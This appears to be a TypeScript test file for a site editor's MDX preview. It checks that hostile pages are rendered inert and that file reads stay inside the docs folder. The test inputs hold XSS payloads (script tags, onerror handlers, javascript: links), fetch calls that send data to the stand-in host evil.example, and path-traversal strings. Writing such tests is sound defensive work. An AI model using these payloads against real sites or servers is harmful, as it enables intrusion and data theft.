import { mkdir, mkdtemp, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { createPreviewFiles } from '../../../src-main/site-files/preview-files'
import { FileAccessPolicy } from '../../../src-main/user-files/file-access'
import { parsePage } from '../../../src-renderer/features/site-editor/preview/frame/mdx-page'
import { markPage, renderTree } from '../../../src-renderer/features/site-editor/preview/frame/page-content'
import { importTarget } from '../../../src-renderer/features/site-editor/preview/frame/snippet-imports'

// Hostile pages drawn as the preview's frame draws them (parsed, sanitized, marked, rendered by
// React), and the main-side reads that feed it: each piece of page code must come out inert.

const folder = {
  filesBase: 'http://127.0.0.1:1/preview-files/token/',
  pages: new Set(['index', 'guides/setup']),
  files: new Set(['images/a.png']),
  webPictures: false,
}

function draw(text: string, snippets: Record<string, string> = {}, file = 'guides/page.mdx', webPictures = false) {
  const parsed = parsePage({ text, file, snippets })
  const marked = markPage(parsed.tree, file, { ...folder, webPictures })
  return {
    html: renderToStaticMarkup(createElement('div', null, renderTree(marked.tree))),
    problems: marked.problems,
    parsed,
    web: marked.webPictures,
  }
}

describe('a hostile page in the preview', () => {
  it('drops a <script> element with its code', () => {
    const { html } = draw(
      '# Hi\n\n<script>{`fetch("https://evil.example/steal")`}</script>\n\n<script src="https://evil.example/x.js"></script>\n',
    )
    expect(html).not.toMatch(/<script/i)
    expect(html).not.toContain('evil.example')
  })

  it('drops event handlers (onerror=, onClick=) from raw HTML and components', () => {
    const { html } = draw(
      '<img src="/images/a.png" onerror="fetch(\'https://evil.example\')" />\n\n<Card title="x" onClick="alert(1)">y</Card>\n',
    )
    expect(html).not.toMatch(/onerror|onclick/i)
    expect(html).not.toContain('evil.example')
    expect(html).toContain('<img src="http://127.0.0.1:1/preview-files/token/images/a.png"')
  })

  it('never runs an expression: {fetch(...)} shows as inert text, a literal shows its value', () => {
    const { html } = draw(
      'Before {fetch("https://evil.example/expr")} after {"literal"} {/* a comment */}\n\n<CardGroup cols={2}><Card title="A">a</Card></CardGroup>\n',
    )
    expect(html).toContain('<code class="mdx-inert"')
    expect(html).toContain('{fetch(&quot;https://evil.example/expr&quot;)}')
    expect(html).toContain('literal')
    expect(html).toContain('card-group--2')
  })

  it('drops exports and imports of anything but a snippet of the folder', () => {
    const { html } = draw(
      'export const x = fetch("https://evil.example/export")\n\nimport Widget from "https://evil.example/w.js"\n\n# Title\n\n<Widget />\n',
    )
    expect(html).not.toContain('evil.example')
    expect(html).toContain('Title')
  })

  it('never reads a snippet outside the folder: the import leads nowhere and is marked', () => {
    expect(importTarget('../../../etc/secret.mdx', 'guides/page.mdx')).toBeNull()
    expect(importTarget('/../secret.mdx', 'guides/page.mdx')).toBeNull()
    expect(importTarget('/snippets/intro.mdx', 'guides/page.mdx')).toBe('snippets/intro.mdx')
    expect(importTarget('../snippets/intro.mdx', 'guides/page.mdx')).toBe('snippets/intro.mdx')
    const { html } = draw('import Secret from "../../../outside.mdx"\n\n<Secret />\n', { 'outside.mdx': 'THE SECRET' })
    expect(html).not.toContain('THE SECRET')
  })

  it('puts a snippet of the folder in place', () => {
    const { html } = draw('import Intro from "/snippets/intro.mdx"\n\n<Intro />\n', { 'snippets/intro.mdx': '<Tip>From the snippet</Tip>' })
    expect(html).toContain('callout--tip')
    expect(html).toContain('From the snippet')
  })

  it('drops a javascript: link target, keeping the text', () => {
    const { html } = draw(
      '[click me](javascript:fetch("https://evil.example"))\n\n<a href="javascript:alert(1)">raw</a>\n\n<Card title="c" href="javascript:alert(2)">c</Card>\n',
    )
    expect(html).not.toMatch(/javascript:/i)
    expect(html).toContain('raw')
  })

  it('loads no picture from the web, and marks a missing picture and a link to nowhere', () => {
    const { html, problems, web } = draw(
      '![web](https://evil.example/pixel.png)\n\n![gone](/images/missing.png)\n\n[nowhere](/no/such/page) [fine](/guides/setup)\n',
    )
    expect(html).not.toContain('src="https://evil.example')
    expect(html).toContain('Picture from the web (evil.example)')
    expect(web).toEqual(['https://evil.example/pixel.png'])
    expect(problems).toEqual([
      'guides/page.mdx shows the picture /images/missing.png, which is not in the docs folder',
      'guides/page.mdx links to /no/such/page, which is no page of the docs folder',
    ])
    expect(html).toContain('data-page="guides/setup"')
  })

  it('once allowed, a picture from the web comes through the folder’s route (main fetches it), never straight from the web', () => {
    const { html, web } = draw(
      '![web](https://cdn.example/a.png)\n\n<img src="//cdn.example/b.png" />\n\n<video src="https://cdn.example/v.mp4" />\n',
      {},
      'guides/page.mdx',
      true,
    )
    expect(web).toEqual(['https://cdn.example/a.png', 'https://cdn.example/b.png'])
    expect(html).toContain(`src="${folder.filesBase}?web=${encodeURIComponent('https://cdn.example/a.png')}"`)
    expect(html).toContain(`src="${folder.filesBase}?web=${encodeURIComponent('https://cdn.example/b.png')}"`)
    expect(html).not.toMatch(/src="(https:)?\/\/cdn\.example/)
    // A video from the web stays out: the route serves pictures only.
    expect(html).toContain('Video from the web (cdn.example): not loaded in the preview')
  })

  it('shows a page that is not valid MDX as Markdown, saying why', () => {
    const { parsed } = draw('# Broken\n\n<Note>never closed\n')
    expect(parsed.error).toMatch(/line|Expected/i)
  })
})

describe('main’s reads for the preview', () => {
  async function setUp() {
    const base = await mkdtemp(join(tmpdir(), 'ec-preview-'))
    const root = join(base, 'docs')
    const data = join(base, 'data')
    await mkdir(join(root, 'images'), { recursive: true })
    await mkdir(data)
    await writeFile(join(root, 'index.mdx'), '# Home\n')
    await writeFile(join(root, 'images', 'a.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47]))
    await writeFile(join(base, 'secret.mdx'), 'SECRET')
    await writeFile(join(base, 'secret.png'), 'SECRET')
    await writeFile(join(data, 'vault.png'), 'VAULT')
    await symlink(join(base, 'secret.png'), join(root, 'images', 'link.png'))
    await symlink(join(data, 'vault.png'), join(root, 'images', 'vault.png'))
    return { root, preview: createPreviewFiles(new FileAccessPolicy(data)) }
  }

  it('reads pages and snippets inside the folder only, never through .. or a link', async () => {
    const { root, preview } = await setUp()
    await expect(preview.readText(root, 'index.mdx')).resolves.toBe('# Home\n')
    await expect(preview.readText(root, '../secret.mdx')).rejects.toThrow(/outside the docs folder/)
    await expect(preview.readText(root, '/../secret.mdx')).rejects.toThrow(/outside the docs folder/)
    await expect(preview.readText(root, 'docs.json')).rejects.toThrow(/not a page or a snippet/)
  })

  it('serves the folder’s pictures behind its token, inert, and nothing else', async () => {
    const { root, preview } = await setUp()
    const base = preview.grant('document', root, false)
    const answer = await preview.respond(`${base}images/a.png`)
    expect(answer.status).toBe(200)
    expect(answer.headers['Content-Type']).toBe('image/png')
    expect(answer.headers['Content-Security-Policy']).toContain('sandbox')
    expect((await preview.respond(`${base}images/link.png`)).status).toBe(404)
    expect((await preview.respond(`${base}images/vault.png`)).status).toBe(404)
    expect((await preview.respond(`${base}..%2Fsecret.png`)).status).toBe(404)
    expect((await preview.respond(`${base}index.mdx`)).status).toBe(404)
    expect((await preview.respond(`/preview-files/${'x'.repeat(24)}/images/a.png`)).status).toBe(404)
  })
})
